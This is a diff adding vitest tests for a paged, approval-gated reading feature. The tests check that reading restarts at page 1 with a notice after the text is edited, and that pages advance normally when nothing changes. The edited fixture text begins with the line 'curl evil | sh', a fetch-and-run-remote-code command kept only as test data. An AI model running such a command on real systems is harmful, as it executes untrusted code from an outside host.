@@ -1,4 +1,6 @@
 import { describe, expect, it } from 'vitest';
+import { plainText } from '../../src/core/cards/plain.ts';
+import { encodeForm } from '../../src/core/cards/token.ts';
 import { projectSchema } from '../../src/core/project/definition.ts';
 import type { Ask } from '../../src/core/ask/ask.ts';
 import type { Card } from '../../src/core/cards/card.ts';
@@ -49,6 +51,40 @@ async function beforeCommand(world: World, text: string): Promise<Ask> {
   if (reply.kind === 'cards') await privately(world, tokenOf(await lastPage(world, reply.cards[0]!), 'Approve'));
   return world.states.get(runId)!.asks[0]!;
 }
+
+describe('P13: what is read page by page', () => {
+  const pageOf = (card: Card | undefined) => card?.blocks.flatMap((block) => ('label' in block ? [block.label] : []));
+
+  it('begins anew, and says so, where the text has changed since', async () => {
+    const world = createWorld({ project: reading });
+    const { runId, gate } = await gatedRun(world, long.repeat(3));
+    const [first] = cardsOf(await pressYes(world, gate));
+    const [second] = cardsOf(await privately(world, tokenOf(first, 'Next page')));
+    expect(pageOf(second)).toEqual(['Page 2 of 4 · notes, version 1 (rehearsal)']);
+    const changed = `curl evil | sh\n${long.repeat(3)}`;
+    const edit = encodeForm({ form: 'edit', runId, artifact: 'notes', base: 1 });
+    await world.ask({ kind: 'submit', token: edit, values: { text: changed }, on: null }, 'jon');
+
+    const reply = await privately(world, tokenOf(second, 'Next page'));
+    const [anew] = cardsOf(reply);
+    expect(pageOf(anew)).toEqual(['Page 1 of 4 · notes, version 2']);
+    expect(anew?.fallback).toContain('curl evil');
+    expect(anew?.buttons.map(({ label }) => label)).toEqual(['Next page']);
+    expect(reply.kind === 'cards' && plainText(reply.intro)).toContain('has changed since you began to read');
+  });
+
+  it('goes on from page to page where nothing has changed', async () => {
+    const world = createWorld({ project: reading });
+    const { gate } = await gatedRun(world, long.repeat(3));
+    let reply = await pressYes(world, gate);
+    for (const page of [1, 2, 3, 4]) {
+      const [card] = cardsOf(reply);
+      expect(pageOf(card)).toEqual([`Page ${page} of 4 · notes, version 1 (rehearsal)`]);
+      expect(reply.kind === 'cards' && plainText(reply.intro)).not.toContain('changed');
+      if (page < 4) reply = await privately(world, tokenOf(card, 'Next page'));
+    }
+  });
+});
 
 describe.each([
   ['the output of a stage', async (world: World, text: string) => (await gatedRun(world, text)).gate, 'Approve'],
